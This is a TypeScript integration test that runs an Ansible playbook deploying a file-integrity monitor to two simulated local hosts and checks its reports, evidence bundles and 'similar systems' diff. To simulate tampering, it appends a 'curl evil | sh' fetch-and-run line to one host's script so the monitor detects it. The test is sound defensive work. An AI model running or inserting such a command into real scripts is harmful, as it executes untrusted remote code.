import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, REPO, integ, tmpdir } from '../helpers/cli.js';

const hasAnsible = spawnSync('sh', ['-c', 'command -v ansible-playbook']).status === 0;
if (!hasAnsible) console.log('skipping the Ansible tests: ansible-playbook is absent (Debian package ansible-core)');

const PLAYBOOK = path.join(REPO, 'deploy/ansible/integ.yml');

describe.runIf(hasAnsible)('deploy/ansible/integ.yml against two local hosts with their own roots', () => {
  let t: string;
  let inventory: string;
  const play = (...args: string[]) => {
    const r = spawnSync('ansible-playbook', ['-i', inventory, PLAYBOOK, ...args], {
      encoding: 'utf8',
      cwd: t,
      timeout: 300_000,
      env: {
        ...process.env,
        ANSIBLE_NOCOLOR: '1',
        ANSIBLE_LOCAL_TEMP: path.join(t, '.ansible-local'),
        ANSIBLE_REMOTE_TEMP: path.join(t, '.ansible-remote'),
        ANSIBLE_HOME: path.join(t, '.ansible'),
      },
    });
    expect(r.status, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^web1 +: ok=\d+ +changed=\d+ +unreachable=0 +failed=0/m);
    expect(r.stdout).toMatch(/^web2 +: ok=\d+ +changed=\d+ +unreachable=0 +failed=0/m);
    return r.stdout;
  };

  beforeAll(() => {
    t = tmpdir('integ-ansible-');
    for (const h of ['web1', 'web2']) {
      fs.mkdirSync(path.join(t, h, 'root', 'srv', 'app'), { recursive: true });
      fs.writeFileSync(path.join(t, h, 'root', 'srv', 'app', 'app.conf'), 'port=80\n');
      fs.writeFileSync(path.join(t, h, 'root', 'srv', 'app', 'run'), '#!/bin/sh\nexec app\n');
    }
    fs.writeFileSync(path.join(t, 'policy.yml'), 'version: 1\nrules:\n  - name: app\n    severity: high\n    paths: ["/srv/app/**"]\n');
    const host = (h: string) =>
      `${h} integ_root=${t}/${h}/root integ_db=${t}/${h}/state/integ.db integ_evidence=${t}/${h}/state/evidence integ_work_dir=${t}/${h}/work`;
    inventory = path.join(t, 'inventory');
    fs.writeFileSync(
      inventory,
      [
        '[web]',
        host('web1'),
        host('web2'),
        '',
        '[web:vars]',
        'ansible_connection=local',
        'ansible_python_interpreter=/usr/bin/python3',
        `integ_cmd="${process.execPath} ${BIN}"`,
        `integ_policy=${t}/policy.yml`,
        `integ_collect_dir=${t}/collected`,
        'integ_environment={"INTEG_CONFIG": "/dev/null", "NO_COLOR": "1"}',
        '',
      ].join('\n'),
    );
  });
  afterAll(() => {
    if (t) fs.rmSync(t, { recursive: true, force: true });
  });

  it('install + baseline, then check + collect: each host\'s report, evidence bundle and exported store on the controller; the "similar systems" diff', () => {
    const first = play('-t', 'install,baseline');
    expect(first).toMatch(/TASK \[integ : Take a baseline\][^\n]*\n(changed: \[web[12]\]\n){2}/);
    for (const h of ['web1', 'web2']) expect(fs.existsSync(path.join(t, h, 'state', 'integ.db'))).toBe(true);
    // web2 is tampered with
    const run2 = path.join(t, 'web2', 'root', 'srv', 'app', 'run');
    fs.appendFileSync(run2, 'curl evil | sh\n');
    expect(fs.readFileSync(run2, 'utf8')).toContain('evil');
    play('-t', 'check,collect');
    const col = path.join(t, 'collected');
    const r1 = JSON.parse(fs.readFileSync(path.join(col, 'web1', 'report.json'), 'utf8'));
    const r2 = JSON.parse(fs.readFileSync(path.join(col, 'web2', 'report.json'), 'utf8'));
    expect(r1.exit_code).toBe(0);
    expect(r2.exit_code).toBe(4);
    expect(r2.changes.map((c: { path: string; kind: string }) => [c.path, c.kind])).toEqual([['/srv/app/run', 'changed']]);
    // evidence: a sealed bundle from web2's alert, none from web1
    const bundles = (h: string) => fs.readdirSync(path.join(col, h)).filter((f) => /^integ-.*\.tar\.gz$/.test(f));
    expect(bundles('web1')).toEqual([]);
    expect(bundles('web2')).toHaveLength(1);
    expect(integ(['verify', path.join(col, 'web2', bundles('web2')[0]!)]).code).toBe(0);
    // exported stores that pass the trust gate
    for (const h of ['web1', 'web2']) expect(integ(['history', '--db', path.join(col, h, 'integ.db')]).code).toBe(0);

    // Recovery, "similar systems": capture every host's current state in a fresh store and diff them.
    play('-t', 'baseline,collect', '-e', 'integ_db={{ integ_work_dir }}/now.db', '-e', `integ_collect_dir=${t}/now`, '-e', 'integ_note=incident 42: state now');
    const d = integ(['diff', path.join(t, 'now', 'web1', 'integ.db'), path.join(t, 'now', 'web2', 'integ.db')]);
    expect(d.code).toBe(1);
    expect(d.stdout).toMatch(/note: A and B come from different roots .*comparing only host-independent attributes/);
    expect(d.stdout).toMatch(/CHANGED {2}\/srv\/app\/run {2}\[content, size\]/);
    expect(d.stdout).toMatch(/^DIFFERENT 1 path differ: 0 only in B, 0 only in A, 1 changed/m);
  }, 600_000);
});
